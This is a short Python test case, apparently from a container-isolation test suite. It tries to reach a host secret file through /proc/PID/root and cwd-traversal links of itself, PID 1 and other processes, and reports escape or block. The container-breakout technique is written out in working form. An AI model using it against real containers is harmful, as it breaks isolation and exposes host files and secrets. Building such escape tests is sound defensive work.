"""Enter the host's tree through the root and cwd links of other processes.

origin: /proc/PID/root, used in container breakouts
why: a proc file system with other processes in it is a door into their roots
control: succeeds
"""


def attack(target):
    last = ""
    for process in ("self", "1", str(target["host"]), str(target["victim"])):
        for door in ("root", "cwd/../../../../../.."):
            fd, last = openat(target, f"/proc/{process}/{door}{target['secret']}", os.O_RDONLY)
            if fd >= 0 and holds_token(target, os.read(fd, 4096)):
                return escaped(f"/proc/{process}/{door} leads to the host's files")
    return blocked("openat", last)
